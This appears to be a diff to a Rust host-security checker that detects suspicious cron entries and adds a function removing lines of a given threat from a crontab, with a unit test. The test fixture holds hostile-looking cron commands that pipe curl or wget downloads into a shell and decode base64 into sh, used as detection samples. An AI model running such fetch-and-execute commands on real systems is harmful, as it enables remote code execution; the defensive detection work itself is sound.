@@ -327,6 +327,63 @@ pub fn classify_command(cmd: &str) -> Vec<CronThreat> {
     out
 }
 
+impl CronThreat {
+    const ALL: [CronThreat; 4] = [
+        CronThreat::DownloadExecute,
+        CronThreat::Base64Exec,
+        CronThreat::ReverseShell,
+        CronThreat::TempExec,
+    ];
+
+    /// The threat a `suspicious_cron` message names (`... (LABEL) in PATH`).
+    pub fn of_message(message: &str) -> Option<CronThreat> {
+        CronThreat::ALL
+            .into_iter()
+            .find(|t| message.starts_with(&format!("suspicious cron entry ({}) in ", t.label())))
+    }
+}
+
+/// Where a crontab the check reads lies: the directory a fix may act beneath and the file's
+/// format. `None` for a path the check does not read.
+pub fn source_of(ctx: &CheckContext, path: &Path) -> Option<(PathBuf, CronFormat)> {
+    if ctx.crontab_path.as_deref() == Some(path) {
+        return Some((path.parent()?.to_path_buf(), CronFormat::System));
+    }
+    let parent = path.parent()?;
+    if ctx.cron_dirs.iter().any(|d| d == parent) {
+        return Some((parent.to_path_buf(), CronFormat::System));
+    }
+    if ctx.user_crontab_dirs.iter().any(|d| d == parent) {
+        return Some((parent.to_path_buf(), CronFormat::User));
+    }
+    None
+}
+
+/// The crontab without its lines of `threat` (every other byte kept), and the 1-based
+/// numbers of the removed lines.
+pub fn without_threat(
+    bytes: &[u8],
+    format: CronFormat,
+    threat: CronThreat,
+) -> (Vec<u8>, Vec<usize>) {
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut removed = Vec::new();
+    for (i, line) in bytes.split_inclusive(|b| *b == b'\n').enumerate() {
+        let text = String::from_utf8_lossy(line);
+        let text = text.trim_end_matches('\n');
+        let bad = matches!(
+            parse_cron_line(text, i + 1, format),
+            Ok(Some(e)) if classify_command(&e.command).contains(&threat)
+        );
+        if bad {
+            removed.push(i + 1);
+        } else {
+            out.extend_from_slice(line);
+        }
+    }
+    (out, removed)
+}
+
 struct Group {
     account: Option<String>,
     lines: Vec<String>,
@@ -438,6 +495,20 @@ mod tests {
 
     fn kinds(cmd: &str) -> Vec<CronThreat> {
         classify_command(cmd)
+    }
+
+    #[test]
+    fn a_threat_is_removed_line_by_line() {
+        let tab = b"# keep\n*/5 * * * * /usr/bin/true\n* * * * * curl -s http://x/y | sh\n@daily wget -qO- http://x | bash\n0 1 * * * echo aGk= | base64 -d | sh";
+        let (out, removed) = without_threat(tab, CronFormat::User, DownloadExecute);
+        assert_eq!(removed, [3, 4]);
+        assert_eq!(
+            String::from_utf8(out).unwrap(),
+            "# keep\n*/5 * * * * /usr/bin/true\n0 1 * * * echo aGk= | base64 -d | sh"
+        );
+        let msg = format!("suspicious cron entry ({}) in /x", Base64Exec.label());
+        assert_eq!(CronThreat::of_message(&msg), Some(Base64Exec));
+        assert_eq!(CronThreat::of_message("other"), None);
     }
 
     #[test]
